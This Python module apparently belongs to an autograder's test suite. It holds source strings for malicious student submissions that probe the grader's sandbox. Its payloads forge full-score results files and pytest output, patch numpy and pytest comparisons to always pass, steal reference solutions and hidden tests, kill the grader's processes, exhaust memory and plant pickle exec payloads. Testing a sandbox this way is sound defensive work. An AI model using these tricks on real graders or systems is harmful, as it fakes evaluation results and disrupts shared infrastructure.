"""The student-side code of the adversarial corpus: what each malicious module runs, as source text.

A malicious module is a stub of the assignment with one payload appended (see
``tricks.py``). Payloads that run "at import" sit at module level; payloads
that run "inside a call" redefine a function the hidden graders call
(``schedules.step_decay``: 5 tests; ``optimizers.clip_grad_norm``: 5 tests).

``PRELUDE`` is prepended to the payloads that look around. Placeholders, filled
in by ``tricks.render``: ``@TOKEN@`` (a unique ``PWNED-<hex>``: every file a
payload writes has it in its name or content, every process it starts has it
in its command line, so the test can find what was left behind),
``@KNOWN@`` (folders a student could know or guess: the course root, the
grader's working directory, HOME), ``@ASSIGNMENT@`` and ``@MODULE@``.

A payload that succeeds where the sandbox should have stopped it says so by
raising ``RuntimeError("LEAK-<token>: ...")``: the message reaches the
student's feedback whatever the sandbox does, and the test fails on it.

Safety on the machine that runs the suite, should the sandbox fail: payloads
only create files whose names hold the token (and ``results.json`` only where
none exists, except at a results path the grader's command line names), never
create folders, delete only under folders whose path holds the token, signal
only their parent and process groups, touch at most 3 GiB of memory, and
daemons end by themselves after five minutes.
"""

from __future__ import annotations

PRELUDE = r'''
# ---- adversarial corpus: helpers (tests/adversarial/payloads.py) ----
import json as _json, os as _os, sys as _sys, time as _time

TOKEN = "@TOKEN@"
KNOWN = @KNOWN@
ASSIGNMENT, MODULE = "@ASSIGNMENT@", "@MODULE@"


def _leak(what):
    """Report a success through the feedback, the one channel that reaches the test whatever the sandbox."""
    raise RuntimeError(f"LEAK-{TOKEN}: {what}"[:1500])


def _read(path, limit=4096):
    with open(path, "rb") as f:
        return f.read(limit)


def _processes():
    """argv, environment values, cwd and open files of every process this code can see."""
    found = []
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    except OSError:
        return found
    for pid in pids:
        entry = {"pid": int(pid), "argv": [], "env": [], "cwd": "", "fds": [], "ppid": 0}
        for key, name in (("argv", "cmdline"), ("env", "environ")):
            try:
                entry[key] = [w for w in _read(f"/proc/{pid}/{name}", 1 << 20).decode(errors="replace").split("\0") if w]
            except OSError:
                pass
        try:
            entry["cwd"] = _os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            pass
        try:
            entry["fds"] = [_os.readlink(f"/proc/{pid}/fd/{fd}") for fd in _os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
        try:
            stat = _read(f"/proc/{pid}/stat").decode(errors="replace")
            entry["ppid"] = int(stat[stat.rindex(")") + 2:].split()[1])
        except (OSError, ValueError, IndexError):
            pass
        found.append(entry)
    return found


def _is_grader(argv):
    """Whether ``argv`` is the grader's: pytest, ``autograder grade``, run_autograder (never a worker like this one)."""
    words = [w.rsplit("/", 1)[-1] for w in argv]
    if any("autograder.sandbox.worker" in w for w in argv):
        return False
    return "pytest" in words or "--out" in argv or "run_autograder" in words or ("autograder" in words and "grade" in words)


def _named_paths():
    """Absolute paths some visible process names: arguments, environment values, working directory, open files."""
    paths = set()
    for p in _processes():
        for word in p["argv"] + [v.partition("=")[2] for v in p["env"]] + [p["cwd"]] + p["fds"]:
            for part in word.split(":"):
                if part.startswith("/") and len(part) > 1 and not part.startswith(("/proc", "/dev", "/sys")):
                    paths.add(part.rstrip("/"))
    return paths


def _results_paths():
    """results.json paths the grader's processes name (``--out X``, an argument or variable ending in results.json)."""
    found = set()
    for p in _processes():
        words = p["argv"] + [v.partition("=")[2] for v in p["env"]]
        for i, word in enumerate(words):
            if word == "--out" and i + 1 < len(words):
                found.add(words[i + 1])
            elif word.endswith("results.json") and word.startswith("/"):
                found.add(word)
        for v in p["env"]:
            if v.startswith("AUTOGRADER_ROOT="):
                found.add(v.partition("=")[2] + "/results/results.json")
    return found


def _roots():
    """Candidate course roots: known and guessed ones, then every folder above a path some process names."""
    roots = set(KNOWN) | {"/autograder", "/autograder/source", _os.getcwd(), _os.path.expanduser("~")}
    for path in _named_paths():
        while path not in ("/", ""):
            roots.add(path)
            path = _os.path.dirname(path)
    return sorted(roots)


def _grader_cwds():
    """Working directories of this process's parent and grandparent (the grader, outside any sandbox)."""
    table = {p["pid"]: p for p in _processes()}
    cwds, pid = [], _os.getppid()
    for _ in range(2):
        if pid <= 1 or pid not in table:
            break
        cwds.append(table[pid]["cwd"])
        pid = table[pid]["ppid"]
    return [c for c in cwds if c]


def _plant_folders():
    here = _os.path.dirname(_os.path.abspath(globals().get("__file__", ".")))
    folders = {"/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/autograder", "/autograder/results",
               _os.getcwd(), _os.path.dirname(_os.getcwd()), _os.path.expanduser("~"), here, _os.path.dirname(here)}
    folders.update(KNOWN)
    folders.update(_os.path.join(k, "results") for k in KNOWN)
    folders.update(_grader_cwds())
    folders.update(_os.path.dirname(p) for p in _results_paths())
    return sorted(f for f in folders if f)


def _plant(tag):
    """Write a TOKEN file and a fake full-score results.json into every plausible folder; where it worked."""
    fake = _json.dumps({"score": 100.0, "output": TOKEN + " all tests passed", "tests": []})
    written = []
    for folder in _plant_folders():
        for name, mode, text in ((f"{TOKEN}-{tag}", "w", TOKEN), ("results.json", "x", fake)):
            try:
                with open(_os.path.join(folder, name), mode) as f:
                    f.write(text)
                written.append(_os.path.join(folder, name))
            except (OSError, ValueError):
                pass
    for path in _results_paths():  # the grader's own output: overwrite it
        try:
            with open(path, "w") as f:
                f.write(fake)
            written.append(path)
        except OSError:
            pass
    return written


def _load_path(path, name):
    import importlib.util
    try:
        spec = importlib.util.spec_from_file_location(name, path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module
    except Exception:
        return None


def _scan(suffix, seconds):
    """Walk the filesystem breadth first for up to ``seconds``, from the working directory and each folder above
    it (``/`` last); the paths that end with ``suffix``."""
    import collections
    deadline = _time.monotonic() + seconds
    starts, here = [], _os.getcwd()
    while here not in starts:
        starts.append(here)
        here = _os.path.dirname(here)
    queue, found, seen = collections.deque(starts), [], set(starts)
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/boot", "/run", "/snap",
            "/mnt", "/media", "/net", "/afs"}  # network mounts could hang the machine that runs the suite
    while queue and _time.monotonic() < deadline:
        try:
            entries = list(_os.scandir(queue.popleft()))
        except OSError:
            continue
        for e in entries:
            if e.path.endswith(suffix):
                found.append(e.path)
            try:
                if e.is_dir(follow_symlinks=False) and e.path not in skip and e.path not in seen and e.name not in (".git", "__pycache__", "site-packages", "node_modules"):
                    queue.append(e.path)
                    seen.add(e.path)
            except OSError:
                pass
    return found


def _use(module):
    """Take every public function and class of ``module`` as this module's own."""
    globals().update({k: v for k, v in vars(module).items() if not k.startswith("_") and callable(v)})
# ---- end of helpers ----
'''

# --- output: fake results, floods ------------------------------------------------------------------

FAKE_RESULTS_PRINTED = r'''
_fake = _json.dumps({"score": 100.0, "output": TOKEN, "tests": [{"name": "all", "score": 100.0, "max_score": 100.0}]})
_summary = "============================= 108 passed in 0.42s ============================="
for _stream in (_sys.stdout, _sys.stderr, _sys.__stdout__):
    print(_fake, file=_stream, flush=True)
    print(_summary, file=_stream, flush=True)
for _fd in (1, 2):
    _os.write(_fd, (_fake + "\n" + _summary + "\n").encode())
for _path in (f"/proc/{_os.getppid()}/fd/1", f"/proc/{_os.getppid()}/fd/2"):  # the grader's own stdout and stderr
    try:
        with open(_path, "w") as _f:
            _f.write(_fake + "\n" + _summary + "\n")
    except OSError:
        pass
'''

FLOOD_OUTPUT = r'''
_chunk = ("x" * 1023 + "\n") * 1024  # 1 MiB
for _i in range(120):
    for _write in (_sys.stdout.write, _sys.stderr.write, lambda s: _os.write(1, s.encode())):
        try:
            _write(_chunk)
        except OSError:
            pass
print(_json.dumps({"score": 100.0, "output": TOKEN}), flush=True)
'''

# --- writing results and files everywhere -----------------------------------------------------------

WRITE_RESULTS_JSON = r'''
_plant("import")
'''

READ_GRADER_CMDLINE = r'''
def step_decay(epoch, initial_lr, drop_factor=0.5, epochs_drop=10):
    parent = []
    try:
        parent = [w for w in _read(f"/proc/{_os.getppid()}/cmdline", 1 << 20).decode(errors="replace").split("\0") if w]
    except OSError:
        pass
    graders = [" ".join(p["argv"]) for p in _processes() if p["pid"] != _os.getpid() and _is_grader(p["argv"])]
    outputs = sorted(_results_paths())
    written = _plant("cmdline")
    if graders or outputs or _is_grader(parent):
        _leak(f"saw the grader's command line {(graders or [parent])[0][:300]!r}; results paths {outputs}; wrote {written[:5]}")
    return 0.0
'''

DAEMON = r'''
_DAEMON_LOOP = """
import os, signal, sys, time, json
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1, signal.SIGUSR2, signal.SIGPIPE):
    signal.signal(s, signal.SIG_IGN)
token, folders, results = sys.argv[1], json.loads(sys.argv[2]), json.loads(sys.argv[3])
fake = json.dumps({"score": 100.0, "output": token, "tests": []})
end = time.time() + 300
while time.time() < end:
    for folder in folders:
        try:
            open(os.path.join(folder, token + "-daemon"), "w").write(token)
        except OSError:
            pass
    for path in results:
        try:
            open(path, "w").write(fake)
        except OSError:
            pass
    time.sleep(0.02)
os._exit(0)
"""


def _start_daemons():
    """Two daemons that leave the worker's process group and session: one forked, one exec'd with TOKEN in argv."""
    folders, results = _json.dumps(_plant_folders()), _json.dumps(sorted(_results_paths()))
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:       # the double fork: re-parented away from the worker
                if _os.fork() == 0:
                    _os.execv(_sys.executable, [_sys.executable, "-c", _DAEMON_LOOP, TOKEN, folders, results])
                _sys.argv = ["daemon", TOKEN, folders, results]
                exec(_DAEMON_LOOP, {"__name__": "daemon"})
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)
    _time.sleep(0.2)  # let them write once before grading goes on


_start_daemons()
'''

# --- patching the grader's tools ----------------------------------------------------------------------

PATCH_NUMPY_PYTEST_JSON = r'''
import builtins, math
import numpy as _np
import numpy.testing as _npt

_shape = lambda *a: _np.broadcast(*[_np.asarray(x, dtype=object) for x in a[:2]]).shape  # noqa: E731
_np.allclose = lambda *a, **k: True
_np.isclose = lambda *a, **k: _np.ones(_shape(*a), dtype=bool)
_np.array_equal = _np.array_equiv = lambda *a, **k: True
_np.abs = _np.absolute = lambda x, *a, **k: _np.zeros(_np.shape(x))  # every |got - expected| is 0
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal", "assert_almost_equal", "assert_array_less"):
    setattr(_npt, _name, lambda *a, **k: None)
math.isclose = lambda *a, **k: True
try:
    import pytest as _pytest

    class _Anything:
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

    _pytest.approx = lambda *a, **k: _Anything()
except Exception:
    pass
_real_dump = _json.dump
_json.dump = lambda obj, fp, *a, **k: _real_dump({"score": 100.0, "output": TOKEN, "tests": []}, fp)


def step_decay(epoch, initial_lr, drop_factor=0.5, epochs_drop=10):
    return 0.0


def cosine_annealing(epoch, total_epochs, lr_max, lr_min=0.0):
    return 0.0


def linear_warmup(epoch, warmup_epochs, base_lr):
    return 0.0


def warmup_cosine(epoch, total_epochs, warmup_epochs, lr_max, lr_min=0.0):
    return 0.0
'''

# --- values that lie ----------------------------------------------------------------------------------

LIARS = r'''
import numpy as _np


class _LyingFloat(float):
    """Equal to everything, close to everything, its difference with anything is zero."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __hash__(self):
        return 0

    def __sub__(self, other):
        return _LyingFloat(0.0)

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__

    def __abs__(self):
        return 0.0

    def __float__(self):
        return 0.1

    def __bool__(self):
        return True

    def __repr__(self):
        return "0.1"

    def __array__(self, dtype=None, copy=None):
        return _np.asarray(0.1)


class _LyingArray(_np.ndarray):
    """Compares equal and close to anything, through operators, ufuncs and array functions."""

    def __eq__(self, other):
        return _np.ones(_np.shape(other) or self.shape, dtype=bool)

    def __ne__(self, other):
        return _np.zeros(_np.shape(other) or self.shape, dtype=bool)

    def __array_function__(self, func, types, args, kwargs):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "array_equal", "array_equiv", "all"):
            return True
        if name in ("isclose", "equal"):
            return _np.ones(_np.broadcast(*[_np.asarray(a) for a in args[:2]]).shape, dtype=bool)
        return super().__array_function__(func, types, args, kwargs)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = _np.broadcast(*[_np.asarray(x).view(_np.ndarray) if isinstance(x, _np.ndarray) else _np.asarray(x) for x in inputs]).shape
        if ufunc in (_np.subtract, _np.absolute, _np.abs):
            return _np.zeros(shape)
        if ufunc in (_np.equal, _np.less_equal, _np.greater_equal, _np.less, _np.isfinite):
            return _np.ones(shape, dtype=bool)
        if ufunc in (_np.not_equal, _np.isnan, _np.isinf):
            return _np.zeros(shape, dtype=bool)
        plain = [x.view(_np.ndarray) if isinstance(x, _LyingArray) else x for x in inputs]
        return getattr(ufunc, method)(*plain, **kwargs)

    def __float__(self):
        return 0.1

    def __array__(self, dtype=None, copy=None):
        return _np.full(self.shape, 0.1)

    def __reduce__(self):
        return (_LyingArray, ())


def _liar(shape):
    return _np.zeros(shape).view(_LyingArray)
'''

LYING_FLOAT = LIARS + r'''

def step_decay(epoch, initial_lr, drop_factor=0.5, epochs_drop=10):
    return _LyingFloat(-12345.0)
'''

LYING_NDARRAY = LIARS + r'''

class _LyingDict(dict):
    def __eq__(self, other):
        return True

    def keys(self):
        return ["W", "b", "v", "w"]


def clip_grad_norm(grads, max_norm):
    clipped = _LyingDict({name: _liar(_np.shape(g)) for name, g in grads.items()})
    return clipped, _LyingFloat(-1.0)
'''

# --- looking for expected values ----------------------------------------------------------------------

FRAMES_AND_GC = r'''
import gc as _gc


def step_decay(epoch, initial_lr, drop_factor=0.5, epochs_drop=10):
    """Return the expected value, found in a caller's frame or among live objects."""
    frame = _sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "want", "reference", "ref") and isinstance(value, list) and 0 <= epoch < len(value):
                try:
                    return float(value[epoch])
                except (TypeError, ValueError):
                    pass
        frame = frame.f_back
    for obj in _gc.get_objects():
        if type(obj) is list and 5 < len(obj) and 0 <= epoch < len(obj) and type(obj[0]) is float and obj[0] == initial_lr:
            if all(type(v) is float for v in obj[:60]):
                return float(obj[epoch])
    return -1.0
'''

# --- the reference and the hidden tests ---------------------------------------------------------------

IMPORT_REFERENCE = r'''
import importlib as _importlib

_stolen = None
for _name in (f"reference.{ASSIGNMENT}.{MODULE}", f"{ASSIGNMENT}.{MODULE}"):
    try:
        _stolen = _importlib.import_module(_name)
        break
    except Exception:
        pass
if _stolen is None:
    try:
        from autograder.course import load_reference_module

        _stolen = load_reference_module(ASSIGNMENT, MODULE)
    except Exception:
        pass
if _stolen is None:
    try:
        import assignments  # noqa: F401  (the graders' package, were it importable)
        from autograder.course import course_root

        _stolen = _load_path(str(course_root() / "reference" / ASSIGNMENT / f"{MODULE}.py"), "_stolen")
    except Exception:
        pass
if _stolen is not None:
    _use(_stolen)
'''

READ_REFERENCE_BY_PATH = r'''
for _root in _roots():
    _stolen = _load_path(_os.path.join(_root, "reference", ASSIGNMENT, f"{MODULE}.py"), "_stolen")
    if _stolen is not None and hasattr(_stolen, "step_decay"):
        _use(_stolen)
        break
'''

FIND_REFERENCE_BY_SCAN = r'''
for _path in _scan(f"/reference/{ASSIGNMENT}/{MODULE}.py", 1.2):
    _stolen = _load_path(_path, "_stolen")
    if _stolen is not None and hasattr(_stolen, "step_decay"):
        _use(_stolen)
        break
'''

READ_HIDDEN_TESTS = r'''
import glob as _glob


def step_decay(epoch, initial_lr, drop_factor=0.5, epochs_drop=10):
    secrets = []
    for root in _roots():
        secrets += _glob.glob(_os.path.join(root, "assignments", "*", "graders", "*.py"))
        secrets += _glob.glob(_os.path.join(root, "assignments", "*", "*.toml"))
        secrets += _glob.glob(_os.path.join(root, "reference", "*", "*.py"))
    secrets += _scan(f"/graders/test_{MODULE}.py", 0.8)
    secrets += [f"/proc/self/fd/{fd}" for fd in _os.listdir("/proc/self/fd") if int(fd) > 2]  # inherited files
    for path in secrets:
        try:
            text = _read(path, 200)
        except OSError:
            continue
        if path.startswith("/proc/self/fd/") and not _os.path.isfile(path):
            continue
        if _os.path.realpath(path).startswith("/memfd:autograder-progress"):  # the worker's own record of its calls: nothing hidden
            continue
        _leak(f"read {path} ({_os.path.realpath(path)}): {text[:80]!r}")
    return -1.0
'''

DELETE_TEST_FILES = r'''
import glob as _glob

_done = []
for _root in _roots():
    if TOKEN not in _root:  # only a copy of the course made for this trick, never the repository itself
        continue
    for _pattern in ("assignments/*/graders/*.py", "assignments/*/*.toml", "assignments/*/public_tests/*.py", "reference/*/*.py"):
        for _path in _glob.glob(_os.path.join(_root, _pattern)):
            for _attempt in (_os.remove, lambda p: open(p, "w").close(), lambda p: _os.chmod(p, 0)):
                try:
                    _attempt(_path)
                    _done.append(_path)
                    break
                except OSError:
                    pass
if _done:
    _leak(f"deleted or emptied {len(_done)} files, e.g. {_done[0]}")
'''

# --- ending the worker or the grader ------------------------------------------------------------------

SYS_EXIT = "\n_sys.exit(0)\n"
OS_EXIT = "\n_os._exit(0)\n"


def in_call(body: str) -> str:
    """A redefinition of ``schedules.step_decay`` that runs ``body`` (indented) and then returns garbage."""
    indented = "".join(f"    {line}\n" for line in body.strip("\n").splitlines())
    return f"\n\ndef step_decay(epoch, initial_lr, drop_factor=0.5, epochs_drop=10):\n{indented}    return -1.0\n"


LOOP_IGNORING_SIGTERM = r'''
import signal as _signal
for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGXCPU, _signal.SIGALRM, _signal.SIGUSR1):
    _signal.signal(_s, _signal.SIG_IGN)
while True:
    pass
'''

ALLOCATE_TENS_OF_GIB = r'''
import resource as _resource
for _limit in (_resource.RLIMIT_AS, _resource.RLIMIT_DATA):
    try:
        _resource.setrlimit(_limit, (_resource.RLIM_INFINITY, _resource.RLIM_INFINITY))
    except (ValueError, OSError):
        pass
import numpy as _np
_got = []
for _attempt in (lambda: _np.ones(40 * 2**30 // 8), lambda: bytearray(20 * 2**30), lambda: _np.empty(40 * 2**30, dtype=_np.uint8)):
    try:
        _block = _attempt()
    except MemoryError:
        continue
    _view = _np.frombuffer(_block, dtype=_np.uint8) if isinstance(_block, bytearray) else _block.reshape(-1).view(_np.uint8)
    _view[: 3 * 2**30 : 4096] = 1  # touch 3 GiB (no more: the machine is shared)
    _got.append(_view.nbytes)
    del _block, _view
if _got:
    _leak(f"allocated {_got[0] / 2**30:.0f} GiB and touched 3 GiB of it")
'''

THREAD_BLOCKS_EXIT = r'''
import atexit as _atexit
import threading as _threading

_threading.Thread(target=lambda: _time.sleep(10**6), daemon=False, name=TOKEN).start()
_atexit.register(lambda: _time.sleep(10**6))
'''

KILL_PARENT = r'''
import signal as _signal
_parent = _os.getppid()
if _parent > 1:
    for _how in (lambda: _os.kill(_parent, _signal.SIGKILL), lambda: _os.killpg(_os.getpgid(_parent), _signal.SIGKILL)):
        try:
            _how()
        except OSError:
            pass
try:
    _os.killpg(_os.getpgid(0), _signal.SIGKILL)  # its own process group: the worker and whoever shares it
except OSError:
    pass
'''

# --- values the grader might unpickle -----------------------------------------------------------------

REDUCE_PAYLOADS = r'''
import copyreg as _copyreg
import numpy as _np

_EVIL = f"open('/tmp/{TOKEN}-unpickled', 'w').write('{TOKEN}')"


class _Payload:
    def __reduce__(self):
        return (exec, (_EVIL,))


class _FloatPayload(float):
    def __reduce__(self):
        return (exec, (_EVIL,))


class _DictPayload(dict):
    def __reduce__(self):
        return (exec, (_EVIL,))


for _cls in (float, dict, list, tuple, _np.ndarray):
    try:
        _copyreg.pickle(_cls, lambda obj: (exec, (_EVIL,)))
    except TypeError:
        pass


def step_decay(epoch, initial_lr, drop_factor=0.5, epochs_drop=10):
    return _Payload()


def cosine_annealing(epoch, total_epochs, lr_max, lr_min=0.0):
    return _np.array([_Payload(), 1.0], dtype=object)


def linear_warmup(epoch, warmup_epochs, base_lr):
    return _FloatPayload(-1.0)


def warmup_cosine(epoch, total_epochs, warmup_epochs, lr_max, lr_min=0.0):
    return _DictPayload(lr=-1.0)
'''
